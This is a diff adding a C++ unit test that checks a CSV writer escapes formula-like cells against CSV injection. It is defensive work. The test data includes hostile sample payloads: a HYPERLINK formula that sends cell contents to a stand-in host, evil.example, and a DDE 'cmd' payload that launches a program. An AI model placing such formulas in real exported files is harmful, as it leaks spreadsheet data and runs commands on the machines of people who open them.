@@ -52,5 +52,20 @@ TEST(Csv, FormatsLinesThatReadBack) {
   EXPECT_EQ(table.records[0].fields[2], "d\"e");
 }
 
+// OWASP's CSV injection: a cell that starts like a formula is written as text (apostrophe, quoted); numbers
+// stay numbers; the import takes the apostrophe off again, so an export imports unchanged.
+TEST(Csv, CellsThatStartLikeAFormulaAreWrittenAsText) {
+  const std::vector<std::string> fields{"=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
+                                        "+cmd|' /C calc'!A0", "-cmd", "@SUM(A1)", "\tx", "\rx", "-0.5", "+2", "-0,75", "Wijkteam = team", "'quoted"};
+  const std::string line = csv::format_line(fields);
+  EXPECT_EQ(line.rfind("\"'=HYPERLINK(", 0), 0u) << line;
+  for (const std::string lead : {"\"'+cmd|' /C calc'!A0\"", "\"'-cmd\"", "\"'@SUM(A1)\"", "\"'\tx\"", "\"'\rx\""})
+    EXPECT_NE(line.find(lead), std::string::npos) << lead << " in " << line;
+  EXPECT_NE(line.find(",-0.5,+2,\"-0,75\","), std::string::npos) << line;
+  const auto table = csv::parse("a,b,c,d,e,f,g,h,i,j,k\n" + line);
+  ASSERT_EQ(table.records.size(), 1u);
+  EXPECT_EQ(table.records[0].fields, fields);
+}
+
 }  // namespace
 }  // namespace kwm
